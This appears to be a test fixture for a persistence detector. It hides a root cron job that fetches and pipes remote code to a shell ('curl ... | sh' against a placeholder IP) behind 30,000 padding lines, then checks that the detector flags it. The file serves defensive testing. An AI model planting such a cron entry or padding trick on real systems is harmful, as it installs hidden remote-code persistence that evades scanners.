# 30,000 comment-free padding lines in a cron file before the job that
# matters: every line of a cron file is kept (a detector needs them).
# expect-exit: 1
# expect: "/etc/cron.d/pad" && "detector":"persistence"
# expect: "/etc/cron.d/pad" && "* * * * * root curl -s http://198.51.100.7/x | sh"
{ for i in $(seq 1 30000); do echo "MAILTO$i=root"; done; echo '* * * * * root curl -s http://198.51.100.7/x | sh'; } >"$1/etc/cron.d/pad"
